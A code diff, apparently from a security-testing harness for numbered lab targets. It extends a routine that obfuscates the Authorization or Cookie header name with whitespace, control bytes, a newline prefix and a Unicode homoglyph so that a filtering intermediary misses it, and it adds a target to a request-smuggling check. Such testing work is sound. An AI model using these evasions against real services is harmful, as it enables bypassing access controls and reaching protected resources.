@@ -104,11 +104,13 @@ def hidden_in_a_fold(target):
 def almost_its_name(target):
     """Spell the header's name in ways that a filter on the way would not know."""
     path = protected(target)
-    names = [b"Authorization ", b"Authorization\t", b" Authorization", b"Authorization\x0b"]
-    names += [b"Authorization\0", b"Author\xc4\xb1zation", b"Author ization", b"X\nAuthorization"]
+    own = b"Cookie" if number(target) == "06" else b"Authorization"
+    i = own.index(b"i")
+    names = [own + b" ", own + b"\t", b" " + own, own + b"\x0b", own + b"\0", b"X\n" + own]
+    names += [own[:i] + b"\xc4\xb1" + own[i + 1 :], own[:i] + b" " + own[i:]]
     for name in names:
         line, *more = credentials(target)
-        line = line.replace(b"Authorization", name, 1)
+        line = line.replace(own, name, 1)
         found = first(target, [request(b"GET", path, *more, line)])
         if found:
             return found
@@ -129,7 +131,7 @@ def smuggled(target):
             return f"the hidden request was answered, in {shape!r}"
 
 
-ROUTES = {"02", "03", "04", "05"}
+ROUTES = {"02", "03", "04", "05", "06"}
 
 
 def shapes(hidden, path=b"/other"):
